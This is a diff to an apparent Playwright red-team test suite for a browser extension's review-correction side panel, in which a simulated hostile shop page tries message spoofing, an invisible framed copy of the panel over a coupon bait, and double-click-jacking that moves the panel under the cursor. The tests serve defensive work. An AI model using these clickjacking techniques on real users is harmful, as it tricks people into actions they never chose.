@@ -1,7 +1,14 @@
 // Red team, the seller's aspect corrections (correctAspects, Review.aspectCorrection, the shop's aspect
 // model): the hostile Pinduoduo 评价管理 page attacks them as a page script in its main world could, with
-// real message shapes and valid bodies. The seller has read 220 reviews (three pages of the console's own
-// JSON; enough for the shop's aspect model to be learned) and opened the side panel on the review queue.
+// real message shapes and valid bodies. The seller has read 222 reviews (three pages of the console's own
+// JSON; past the 200 the shop's aspect model needs) and opened the side panel on the review queue.
+//
+// Found: window messages, tap envelopes, ports, CustomEvents, chrome.runtime, scripting the frame, a
+// covered / faded / framed-copy ×, and drawn rows are all blocked; the "add a complaint" <select> has no
+// hidden-click guard (HOLE ×2: covered panel, framed copy), and the page can move the visible panel
+// frame under a double-click (HOLE: the guard checks visibility, not that the control stayed put).
+// A changed text from the server drops the correction, by design; the model never counts more than is
+// stored.
 //
 // Each `it` is one attack and asserts that it is BLOCKED: the seller's data is as it was (no
 // aspectCorrection, analysis.complaints unchanged, no review written). An attack that worked is named
@@ -32,7 +39,9 @@ function review(daysAgo: number, text: string, kind: ShopReview['kind'], complai
 const crushed = review(1, '收到时盒子压坏了', 'neg', ['damage']);
 const cracked = review(1.5, '杯子有裂痕，联系客服没人回', 'neg', ['damage', 'service']);
 const slow = review(2, '快递太慢了，等了一个星期', 'neg', ['logistics']);
-const VICTIMS = [crushed, cracked, slow];
+const late = review(2.5, '东西还行，就是快递太慢了，等了五天', 'hidden', ['logistics']);
+const dented = review(2.8, '茶不错，可惜罐子有点瘪了', 'hidden', ['damage']);
+const VICTIMS = [crushed, cracked, slow, late, dented];
 // Praise to fill the shop past the aspect model's 200 reviews with text (MIN_ASPECT_REVIEWS).
 const PRAISE = ['茶很香，回购第三次了', '包装很用心，送人很有面子', '物流快，味道和店里说的一样', '性价比高，家里人都喜欢', '冲泡几次都不淡，好茶', '颜色很正，和图片一样'];
 const fillers = Array.from({ length: 217 }, (_, i) => review(3 + (i % 50), `${PRAISE[i % PRAISE.length]}${'～'.repeat(i % 4)}`, 'pos', []));
@@ -196,6 +205,7 @@ describe('red team: the seller\'s aspect corrections', () => {
     expect(stored.some((r) => r.aspectCorrection)).toBe(false);
     // Nothing arrived: no correction and no review page from any sender (the panel's own reads aside).
     const got = await inbox();
+    expect(got.length).toBeGreaterThan(0); // the watch works: it saw the extension's own page (readDb's popup) ask
     expect(got.filter((m) => m.type === 'correctAspects' || m.type === 'ingestReviews')).toEqual([]);
     expect(await queueItem(panelFrame(page), crushed.feedId).getAttribute('data-aspects')).toBe('damage');
   });
@@ -219,9 +229,8 @@ describe('red team: the seller\'s aspect corrections', () => {
       }
       return tried;
     }, { id: launched.extensionId, request: { laoke: 'correctAspects', data: { platform: 'pdd', reviewId: crushed.feedId, complaints: ['mismatch'] } } });
-    // Observed: no chrome.runtime in the page's world at all (chrome is an object without runtime).
-    expect(outcome.sendMessage).not.toBe('sent');
-    expect(outcome.connect).not.toBe('sent');
+    // Observed: the page's `chrome` is an object without `runtime` at all; nothing could be sent.
+    expect(outcome).toEqual({ chrome: 'object', runtime: 'undefined', sendMessage: 'absent', connect: 'absent' });
     await page.waitForTimeout(1_000);
     expect((await inbox()).filter((m) => m.type === 'correctAspects')).toEqual([]);
     await expectUntouched(crushed);
@@ -369,6 +378,91 @@ describe('red team: the seller\'s aspect corrections', () => {
       .toEqual({ correction: null, complaints: before.get(slow.feedId)!.analysis.complaints, refused: true });
   });
 
+  // HOLE (the same cause as above, through the copy): the page frames its own invisible copy of panel.html
+  // (the URL is in our frame's src, readable in our open shadow root; use_dynamic_url does not hide it
+  // from the page) over a bait; the copy's "add a complaint" list takes the seller's click and keys, and
+  // the copy, an extension page, is allowed correctAspects.
+  it('HOLE: an invisible copy of panel.html over a bait: the seller\'s click lands on the copy\'s "add a complaint" list, Esc and ↓ write a correction', async () => {
+    await page.evaluate(() => {
+      const ours = document.querySelector('laoke-panel')!.shadowRoot!.querySelector('iframe')!;
+      const url = new URL(ours.src);
+      url.search = '?start=reviews';
+      const copy = Object.assign(document.createElement('iframe'), { src: url.href, id: 'copy' });
+      copy.style.cssText = 'position:fixed;left:0;top:0;width:380px;height:3000px;border:0;opacity:0;z-index:2147483647';
+      const bait = Object.assign(document.createElement('button'), { id: 'bait', textContent: '点击领取优惠券' });
+      bait.style.cssText = 'position:fixed;left:0;top:0;width:380px;height:900px;z-index:2147483646;font-size:40px';
+      document.body.append(bait, copy);
+    });
+    const copy = page.frameLocator('#copy');
+    const list = queueItem(copy, late.feedId).locator('[data-testid="review-aspect-add"]');
+    await list.waitFor({ timeout: 15_000 });
+    // The copy slid so that the list sits in the middle of the bait.
+    const inFrame = await list.evaluate((el) => el.getBoundingClientRect().y);
+    await page.evaluate((top) => { const c = document.getElementById('copy')!; c.style.top = `${top}px`; c.style.width = '381px'; }, 450 - inFrame);
+    await page.waitForTimeout(300);
+    await page.evaluate(() => { document.getElementById('copy')!.style.width = '380px'; });
+    await page.waitForTimeout(600);
+    await sellerClickAt(page, list);
+    await page.keyboard.press('Escape');
+    await page.keyboard.press('ArrowDown');
+    await page.waitForTimeout(1_500);
+    const refused = await queueItem(copy, late.feedId).locator('[data-testid="review-aspect-hidden"]').count();
+    const now = await storedReview(launched, late.feedId);
+    expect({ correction: now.aspectCorrection?.complaints ?? null, complaints: now.analysis.complaints, refused: refused > 0 })
+      .toEqual({ correction: null, complaints: before.get(late.feedId)!.analysis.complaints, refused: true });
+  });
+
+  // HOLE: double-clickjacking. The page can restyle our own panel frame: <laoke-panel>'s shadow root is
+  // open (entrypoints/console.content/features/side-panel.ts, createHost: attachShadow
+  // {mode: 'open'}; the iframe's inline style is the page's to change) and nothing watches the frame's
+  // place. The seller double-clicks a bait on the page; at the first press the page moves the panel,
+  // fully visible, so that a × sits under the cursor, and the second press lands on it. The × was never
+  // covered, faded or transformed, so the browser's last word on it (IntersectionObserver v2, delay
+  // 100 ms) stays "visible" and the rule of components/seen-by-seller.ts (clickVerdict: trusted, seen at
+  // press and at click) lets the × act: the seller never chose it. Observed: the review's complaint is
+  // removed (aspectCorrection {complaints: []}). Every SellerButton of the panel is open to the same move
+  // (copy a draft, 保存, 删除此客户 and its confirm with a triple-click bait).
+  it('HOLE: a double-click bait; the page moves our visible panel frame under the cursor between the two clicks: the second click on × removes nothing', async () => {
+    const frame = panelFrame(page);
+    const x = removeButton(frame, dented.feedId, 'damage');
+    await x.scrollIntoViewIfNeeded();
+    await until(async () => (await x.getAttribute('data-seen')) === 'true', 'the × seen visible');
+    const xBox = (await x.boundingBox())!;
+    await page.evaluate(({ xBox }) => {
+      const f = document.querySelector('laoke-panel')!.shadowRoot!.querySelector('iframe')!;
+      const r = f.getBoundingClientRect();
+      // Where the ×'s middle is inside the frame (the attacker knows the panel's layout).
+      const dx = xBox.x + xBox.width / 2 - r.left;
+      const dy = xBox.y + xBox.height / 2 - r.top;
+      const bait = Object.assign(document.createElement('button'), { id: 'bait', textContent: '双击领取红包' });
+      bait.style.cssText = 'position:fixed;left:200px;top:380px;width:300px;height:80px;font-size:24px';
+      let moved = false;
+      bait.addEventListener('mousedown', (e) => {
+        if (moved) return;
+        moved = true;
+        Object.assign(f.style, { right: 'auto', left: `${e.clientX - dx}px`, top: `${e.clientY - dy}px` });
+      });
+      document.body.append(bait);
+    }, { xBox });
+    // The seller double-clicks the bait (two presses 120 ms apart, as a double-click is).
+    await page.mouse.move(350, 420);
+    await page.mouse.down();
+    await page.mouse.up();
+    await page.waitForTimeout(120);
+    await page.mouse.down({ clickCount: 2 });
+    await page.mouse.up({ clickCount: 2 });
+    await page.waitForTimeout(1_500);
+    const now = await storedReview(launched, dented.feedId);
+    const restored = await page.evaluate(() => {
+      const f = document.querySelector('laoke-panel')!.shadowRoot!.querySelector('iframe')!;
+      Object.assign(f.style, { right: '0', left: '', top: '0' });
+      return true;
+    });
+    expect(restored).toBe(true);
+    expect({ correction: now.aspectCorrection?.complaints ?? null, complaints: now.analysis.complaints })
+      .toEqual({ correction: null, complaints: before.get(dented.feedId)!.analysis.complaints });
+  });
+
   it('BLOCKED: review rows the page draws in the DOM (no JSON) with a real review\'s and a real buyer\'s order numbers write no review and no correction', async () => {
     const reviewedSn = pddOrderSn(crushed.order);
     const buyerOrder = pddOrders(shop)[0]!;
@@ -407,11 +501,15 @@ describe('red team: the seller\'s aspect corrections', () => {
 
   it('BY DESIGN / BLOCKED: after the seller\'s correction, the page\'s own fetches bring the review back with another text: the correction is dropped with that text (not with a new title); the aspect model never learns from more reviews than are stored', async () => {
     const frame = panelFrame(page);
+    await clearInbox();
     // The seller's own correction of crushed: × on 破损, then 货不对板 from the list.
     await seenClick(removeButton(frame, crushed.feedId, 'damage'));
     await expect.poll(async () => queueItem(frame, crushed.feedId).getAttribute('data-aspects')).toBe('');
     await queueItem(frame, crushed.feedId).locator('[data-testid="review-aspect-add"]').selectOption('mismatch');
     await expect.poll(async () => (await storedReview(launched, crushed.feedId)).aspectCorrection?.complaints).toEqual(['mismatch']);
+    // (The inbox watch of the first attack sees a correction when there is one: these two, from panel.html.)
+    const sent = (await inbox()).filter((m) => m.type === 'correctAspects');
+    expect(sent.map((m) => new URL(m.url).pathname)).toEqual(['/panel.html', '/panel.html']);
     // The correction is learned from: the aspect model is learned again, from the stored reviews.
     const metaBefore = (await aspectMeta(launched))!;
     await page.waitForTimeout(3_000);
